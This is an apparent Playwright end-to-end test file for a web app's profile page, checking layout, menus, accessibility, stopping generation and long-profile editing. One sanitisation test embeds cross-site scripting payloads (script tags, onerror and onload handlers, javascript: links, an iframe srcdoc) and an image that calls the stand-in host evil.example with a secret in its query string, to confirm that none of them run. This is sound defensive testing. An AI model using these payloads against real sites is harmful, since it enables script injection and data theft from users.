import type { Page } from '@playwright/test';
import { expectNoViolationAtEachWidth } from './axe';
import { expect, MAYA, test } from './fixtures';
import { MOCK_API } from './origins';
import { editProfile, holdGeneration, profileDocument } from './profile-text';

const openTab = (page: Page) => page.goto('/profile?tab=createProfile');

/** The stored profile in the record. */
async function storedProfile(page: Page): Promise<unknown> {
  const response = await page.request.get(`${MOCK_API}/api/user/onboarding`);
  return ((await response.json()) as { profileData: unknown }).profileData;
}

/** Replaces the profile in the responses for the record. */
async function replaceProfile(page: Page, profileData: string): Promise<void> {
  await page.route('**/api/user/onboarding', async (route) => {
    const response = await route.fetch();
    const record = (await response.json()) as Record<string, unknown>;
    await route.fulfill({ response, json: { ...record, profileData } });
  });
}

test.beforeEach(async ({ mock }) => {
  await mock.set({ signIn: MAYA });
});

test(
  'the section below a profile remains outside the viewport while the code that renders the profile loads',
  { tag: '@full' },
  async ({ page }) => {
    await page.setViewportSize({ width: 768, height: 800 });
    let release = () => {};
    const released = new Promise<void>((resolve) => (release = resolve));
    await page.route('**/assets/markdown-*.js', async (route) => {
      await released;
      await route.continue();
    });
    await openTab(page);
    await expect(profileDocument(page).getByText('Loading text...')).toBeAttached();
    const next = page.getByRole('heading', { name: 'Made from' });
    await expect(next).toBeAttached();
    await expect(next).not.toBeInViewport();
    release();
    await expect(profileDocument(page)).toContainText('Who is behind it');
    await expect(next).not.toBeInViewport();
  },
);

test(
  'the open Download menu is inside the window at each width',
  { tag: '@full' },
  async ({ page }) => {
    await page.setViewportSize({ width: 390, height: 844 });
    await openTab(page);
    await page.getByRole('button', { name: 'Download' }).click();
    for (const width of [390, 320, 768, 1280]) {
      await page.setViewportSize({ width, height: 844 });
      for (const name of ['Markdown file', 'Print or save as PDF'])
        await expect(page.getByRole('menuitem', { name })).toBeInViewport({ ratio: 1 });
    }
  },
);

test(
  'a profile that is being written has no accessibility violation',
  { tag: '@full' },
  async ({ page }) => {
    await holdGeneration(page);
    await openTab(page);
    await page.getByRole('button', { name: 'Generate again' }).click();
    await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible();
    await expect(profileDocument(page).getByRole('heading')).toHaveCount(1);
    await expectNoViolationAtEachWidth(page);
    await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible();
  },
);

test('a double click on Stop neither saves nor chooses the stopped text', async ({
  page,
  mock,
}) => {
  await mock.set({ streamPause: 1000 });
  await openTab(page);
  const before = await storedProfile(page);
  await page.getByRole('button', { name: 'Generate again' }).click();
  await expect(profileDocument(page).getByRole('heading')).toHaveCount(1);
  await page.getByRole('button', { name: 'Stop' }).dblclick({ delay: 40 });
  await expect(page.getByText(/^Stopped\. What was written so far is kept/)).toBeVisible();
  expect(await page.getByRole('checkbox', { checked: true }).count()).toBe(0);
  await page.getByRole('button', { name: 'Discard new version' }).click();
  await expect(profileDocument(page)).toContainText('The next step for a client');
  await expect(page.getByRole('button', { name: 'Save' })).toBeHidden();
  expect(await storedProfile(page)).toBe(before);
  expect(await mock.count('/update-profile')).toBe(0);
});

test('the preview of a profile runs no script and loads nothing', async ({ page }) => {
  const requestedUrls: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    requestedUrls.push(route.request().url());
    return route.abort();
  });
  await replaceProfile(
    page,
    [
      '# Profile',
      '<script>window.hit = 1</script>',
      '<img src=x onerror="window.hit = 1">',
      '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
      '[press](javascript:window.hit=1) and [data](data:text/html,<script>1</script>)',
      '![seen](https://evil.example/pixel.png?text=secret)',
      '![inline](data:image/svg+xml,<svg/onload=alert(1)>)',
    ].join('\n\n'),
  );
  await openTab(page);
  await expect(page.getByRole('heading', { name: 'Profile', exact: true })).toBeVisible();
  await page.getByText('press').click();
  await expect(page.getByText('inline')).toBeVisible();
  expect(await page.evaluate(() => Reflect.get(window, 'hit'))).toBeUndefined();
  expect(requestedUrls).toEqual([]);
  const panel = profileDocument(page);
  expect(await panel.locator('a[href], script, iframe, img').count()).toBe(0);

  await page.getByRole('button', { name: 'Load image: seen' }).click();
  await expect.poll(() => requestedUrls).toHaveLength(1);
});

test('a very long profile is edited and rendered', { tag: '@full' }, async ({ page }) => {
  const part = 'You help first-time managers with **one** conversation a week.\n\n';
  await replaceProfile(page, `${part.repeat(3300)}The last words.`);
  await openTab(page);
  const area = await editProfile(page);
  await expect(area).toHaveValue(/The last words\.$/);
  await area.press('Control+End');
  await area.pressSequentially(' And more.');
  await expect(area).toHaveValue(/The last words\. And more\.$/);
  await page.getByRole('button', { name: 'Done' }).click();
  // It renders section by section, which takes seconds on a busy machine.
  await expect(page.getByText('The last words. And more.')).toBeVisible({ timeout: 20_000 });
});

test(
  'the bar that keeps the chosen sections covers neither the usage button nor a focused checkbox',
  { tag: '@full' },
  async ({ page }) => {
    await openTab(page);
    await page.getByRole('button', { name: 'Generate again' }).click();
    const keep = page.getByRole('button', { name: 'Keep selected' });
    await expect(keep).toBeVisible();
    for (const width of [390, 768, 1280]) {
      await page.setViewportSize({ width, height: 844 });
      const bar = (await page.locator('[data-bottom-bar]').boundingBox())!;
      const button = page.locator('[data-usage-button]');
      await expect
        .poll(async () => {
          const box = (await button.boundingBox())!;
          return box.y + box.height;
        })
        .toBeLessThanOrEqual(bar.y);
      const last = page.getByRole('checkbox').last();
      await page.evaluate(() => window.scrollTo(0, 0));
      await last.blur();
      await last.focus();
      const box = (await last.boundingBox())!;
      expect(box.y + box.height).toBeLessThan(bar.y);
    }
    await keep.click();
    await expect(page.getByText('Profile updated successfully.')).toBeVisible();
    await expect(profileDocument(page)).toBeVisible();
  },
);
